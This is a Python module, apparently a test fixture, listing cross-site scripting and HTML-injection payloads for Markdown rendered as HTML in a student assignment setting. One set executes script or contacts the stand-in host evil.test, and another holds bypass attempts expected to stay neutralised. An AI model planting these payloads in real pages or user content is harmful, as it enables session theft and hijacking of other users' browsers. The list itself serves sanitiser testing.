"""What a student may write so that an instructor's browser, or a classmate's, does their bidding.

Each calls alert or asks http://evil.test for something, by itself or when it is clicked.
"""

import base64

PAGE = base64.b64encode(b"<script>alert(1)</script>").decode()

BITES = {  # what acts, by itself or on a click, where Markdown is shown with its HTML
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script from elsewhere": "<script src='http://evil.test/a.js'></script>",
    "module": "<script type=module>alert(1)</script>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img from elsewhere": "<img src='http://evil.test/a.png'>",
    "image of Markdown": "![a](http://evil.test/b.png)",
    "image by reference": "![a][b]\n\n[b]: http://evil.test/c.png",
    "svg onload": "<svg onload=alert(1)></svg>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "body onload": "<body onload=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "autofocus": "<input autofocus onfocus=alert(1)>",
    "iframe": "<iframe src='javascript:parent.alert(1)'></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "iframe with data": f"<iframe src='data:text/html;base64,{PAGE}'></iframe>",
    "object": "<object data='http://evil.test/o.html'></object>",
    "embed": "<embed src='http://evil.test/e.html'>",
    "style import": "<style>@import 'http://evil.test/a.css';</style>",
    "style background": "<p style='background:url(http://evil.test/d.png)'>x</p>",
    "stylesheet": "<link rel=stylesheet href='http://evil.test/b.css'>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=http://evil.test/m'>",
    "base": "<base href='http://evil.test/'><img src=f.png>",
    "form": "<form action='http://evil.test/f'><button class=bait>Save</button></form>",
    "link with javascript": "<a href='javascript:alert(1)'>x</a>",
    "video": "<video><source onerror=alert(1) src=x></video>",
    "heading": "# <img src=x onerror=alert(1)>",
    "table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "mermaid": "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "MathML": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
}
HARMLESS = {  # what nbconvert or the browser stops today; it must stay so
    "img onerror without spaces": "<img/src='x'/onerror=alert(1)>",
    "comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "processing instruction": "<?x ><img src=x onerror=alert(1)>?>",
    "link of Markdown": "[a](javascript:alert(1))",
    "link in pieces": "[a](java&#115;cript:alert(1))",
    "link with data": f"[a](data:text/html;base64,{PAGE})",
    "link by reference": "[a][b]\n\n[b]: javascript:alert(1)",
    "address in brackets": "<javascript:alert(1)>",
    "bare address": 'http://a.test/"onmouseover="alert(1)',
    "title of a link": "[a](http://a.test 'x\"onmouseover=\"alert(1)')",
    "attachment": "![a](attachment:a.svg)",
    "entities": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "entities in a heading": "# &lt;img src=x onerror=alert(1)&gt;",
    "code": "`<img src=x onerror=alert(1)>`",
    "fence": "```html\n<img src=x onerror=alert(1)>\n```",
    "fence with a language": '```"><img src=x onerror=alert(1)>\nx\n```',
    "formula": "$<img src=x onerror=alert(1)>$",
    "environment": "\\begin{a}<img src=x onerror=alert(1)>\\end{a}",
    "MathJax link": r"$\href{javascript:alert(1)}{x}$",
    "MathJax require": r"$\require{action}\toggle{a}{b}\endtoggle$ $\unicode[x;y:url(//evil.test)]{1}$",
    "MathJax macro": r"$\def\frac#1#2{\href{javascript:alert(1)}{#1}}\frac12$",
    "namespaces": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "null and direction": "<\x00script>alert(1)</script> \u202e \u2066",
    "ANSI": "\x1b]8;;http://evil.test\x07x\x1b[31m<img src=x onerror=alert(1)>",
    "template": "{{ 7*7 }} {% raw %} <%= alert(1) %>",
}
INJECTIONS = BITES | HARMLESS
